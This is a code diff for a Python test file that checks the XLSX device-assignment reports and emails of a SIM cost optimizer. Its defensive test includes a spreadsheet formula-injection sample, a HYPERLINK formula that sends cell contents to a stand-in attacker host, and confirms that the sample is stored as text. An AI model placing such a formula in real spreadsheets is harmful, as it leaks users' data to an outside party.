@@ -9,7 +9,7 @@ from openpyxl import load_workbook
 
 from optimizer.selectors import plan_costs
 from sessions import reports
-from sessions.reports import XLSX_MIME, report_email, report_write
+from sessions.reports import XLSX_MIME, report_email, report_name, report_open, report_write
 
 EVIL_NOTES = {
     0: '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
@@ -44,11 +44,10 @@ def _summary(workbook) -> dict:
 
 def test_m2m_report_sums_match_the_stored_totals_to_the_cent(completed_session, provider_a):
     session = completed_session(provider=provider_a, groups=3, sims_per_group=17, seed=5)
-    path = report_write(session=session)
-    assert path.name == f"device_assignments_{session.guid}.xlsx"
-    assert path.parent == reports.report_path(session=session).parent
+    name = report_write(session=session)
+    assert name == reports.report_name(session=session) == f"device_assignments_{session.guid}.xlsx"
 
-    wb = load_workbook(path)
+    wb = load_workbook(report_open(name))
     assert wb.sheetnames == ["Summary", "Groups", "Assignments"]
     header = next(wb["Assignments"].iter_rows(max_row=1, values_only=True))
     assert list(header) == reports.ASSIGNMENT_HEADER
@@ -89,8 +88,8 @@ def test_m2m_report_sums_match_the_stored_totals_to_the_cent(completed_session, 
 def test_summary_has_a_bar_chart_of_cost_per_plan_before_and_after(completed_session, provider_a):
     session = completed_session(provider=provider_a, groups=2, sims_per_group=5)
     run = session.run
-    path = report_write(session=session)
-    with zipfile.ZipFile(path) as archive:
+    name = report_write(session=session)
+    with zipfile.ZipFile(report_open(name)) as archive:
         charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
         assert len(charts) == 1
         chart = ElementTree.fromstring(archive.read(charts[0]))  # noqa: S314 — a file this test just wrote
@@ -101,7 +100,7 @@ def test_summary_has_a_bar_chart_of_cost_per_plan_before_and_after(completed_ses
     assert refs and all(r.startswith("'Summary'!") or r.startswith("Summary!") for r in refs), refs
 
     costs = plan_costs(run=run)
-    wb = load_workbook(path)
+    wb = load_workbook(report_open(name))
     table = {row[0]: row for row in wb["Summary"].iter_rows(values_only=True) if row and row[0] in {c.code for c in costs}}
     for c in costs:
         assert table[c.code][1] == c.sims_before and table[c.code][3] == c.sims_after
@@ -111,8 +110,8 @@ def test_summary_has_a_bar_chart_of_cost_per_plan_before_and_after(completed_ses
 
 def test_a_formula_looking_device_note_stays_text(completed_session, provider_a):
     session = completed_session(provider=provider_a, groups=1, sims_per_group=8, notes=EVIL_NOTES)
-    path = report_write(session=session)
-    wb = load_workbook(path)
+    report = report_write(session=session)
+    wb = load_workbook(report_open(report))
     ws = wb["Assignments"]
     notes_col = reports.ASSIGNMENT_HEADER.index("Notes") + 1
     seen = {}
@@ -127,7 +126,7 @@ def test_a_formula_looking_device_note_stays_text(completed_session, provider_a)
         return {n.replace("\r", "\n") for n in notes}
 
     assert unify(seen) == unify(EVIL_NOTES.values()), "every note kept, as text"
-    with zipfile.ZipFile(path) as archive:
+    with zipfile.ZipFile(report_open(report)) as archive:
         for name in archive.namelist():
             if name.startswith("xl/worksheets/"):
                 assert "<f>" not in archive.read(name).decode(), f"a formula in {name}"
@@ -135,7 +134,7 @@ def test_a_formula_looking_device_note_stays_text(completed_session, provider_a)
 
 def test_illegal_control_characters_in_text_do_not_break_the_report(completed_session, provider_a):
     session = completed_session(provider=provider_a, groups=1, sims_per_group=2, notes={0: "bell\x07 and escape\x1b"})
-    wb = load_workbook(report_write(session=session))
+    wb = load_workbook(report_open(report_write(session=session)))
     notes = [r[9] for r in _sheet_rows(wb, "Assignments") if r[9]]
     assert notes == ["bell and escape"]
 
@@ -144,7 +143,7 @@ def test_mobility_accounts_get_the_group_level_layout(completed_session, provide
     provider_a.portal_type = "Mobility"
     provider_a.save()
     session = completed_session(provider=provider_a, groups=3, sims_per_group=4, seed=9)
-    wb = load_workbook(report_write(session=session))
+    wb = load_workbook(report_open(report_write(session=session)))
     assert wb.sheetnames == ["Summary", "Groups", "Assignments by group"]
     rows = _sheet_rows(wb, "Assignments by group")
     sims = [r for r in rows if r[1] and not str(r[0]).endswith("subtotal")]
@@ -166,7 +165,7 @@ def test_rows_beyond_the_sheet_limit_continue_on_the_next_sheet(completed_sessio
     # The same logic at a size a test can afford.
     monkeypatch.setattr(reports, "ROWS_PER_SHEET", 5)
     session = completed_session(provider=provider_a, groups=2, sims_per_group=6)
-    wb = load_workbook(report_write(session=session))
+    wb = load_workbook(report_open(report_write(session=session)))
     assert wb.sheetnames == ["Summary", "Groups", "Assignments", "Assignments 2", "Assignments 3"]
     assert [wb[n].max_row for n in ("Assignments", "Assignments 2", "Assignments 3")] == [6, 6, 3]
     rows = _sheet_rows(wb, "Assignments")
@@ -178,22 +177,23 @@ def test_rows_beyond_the_sheet_limit_continue_on_the_next_sheet(completed_sessio
 def test_a_full_last_sheet_does_not_leave_an_empty_one(completed_session, provider_a, monkeypatch):
     monkeypatch.setattr(reports, "ROWS_PER_SHEET", 4)
     session = completed_session(provider=provider_a, groups=1, sims_per_group=8)
-    wb = load_workbook(report_write(session=session))
+    wb = load_workbook(report_open(report_write(session=session)))
     assert wb.sheetnames[2:] == ["Assignments", "Assignments 2"]
 
 
 def test_a_session_without_assignments_still_gets_a_report(completed_session, provider_a):
     session = completed_session(provider=provider_a, groups=0)
-    wb = load_workbook(report_write(session=session))
+    wb = load_workbook(report_open(report_write(session=session)))
     assert wb["Assignments"].max_row == 1
 
 
-def test_rewriting_replaces_the_report_in_place(completed_session, provider_a):
+def test_rewriting_replaces_the_report_in_place(completed_session, provider_a, tmp_path):
     session = completed_session(provider=provider_a, groups=1, sims_per_group=2)
     first = report_write(session=session)
     second = report_write(session=session)
-    assert first == second and [p.name for p in first.parent.iterdir()] == [first.name]
-    assert first.stat().st_mode & 0o777 == 0o644, "readable by the web process, not only the worker"
+    folder = tmp_path / "reports"
+    assert first == second and [p.name for p in folder.iterdir()] == [first]
+    assert (folder / first).stat().st_mode & 0o777 == 0o644, "readable by the web process, not only the worker"
 
 
 def test_report_email_goes_to_recipients_and_ops_with_the_attachment(completed_session, provider_a, settings):
@@ -201,8 +201,8 @@ def test_report_email_goes_to_recipients_and_ops_with_the_attachment(completed_s
     provider_a.report_recipients = "fleet@alice.example, ops@example.com"
     provider_a.save()
     session = completed_session(provider=provider_a, groups=1, sims_per_group=3)
-    path = report_write(session=session)
-    assert report_email(session=session, path=path) == 1
+    name = report_write(session=session)
+    assert report_email(session=session, name=name) == 1
     (message,) = mail.outbox
     assert message.to == ["fleet@alice.example", "ops@example.com", "ops@carrieropt.example"]
     end = session.billing_period.end_date
@@ -211,7 +211,7 @@ def test_report_email_goes_to_recipients_and_ops_with_the_attachment(completed_s
                  "Total SIM cards: 3", str(session.guid)):
         assert text in message.body
     (name, content, mimetype), = message.attachments
-    assert name == path.name and mimetype == XLSX_MIME and content == path.read_bytes()
+    assert name == report_name(session=session) and mimetype == XLSX_MIME and content == report_open(name).read()
 
 
 def test_report_email_without_recipients_sends_nothing(completed_session, provider_a, settings):
@@ -219,5 +219,5 @@ def test_report_email_without_recipients_sends_nothing(completed_session, provid
     provider_a.report_recipients = ""
     provider_a.save()
     session = completed_session(provider=provider_a, groups=1, sims_per_group=1)
-    assert report_email(session=session, path=report_write(session=session)) == 0
+    assert report_email(session=session, name=report_write(session=session)) == 0
     assert mail.outbox == []
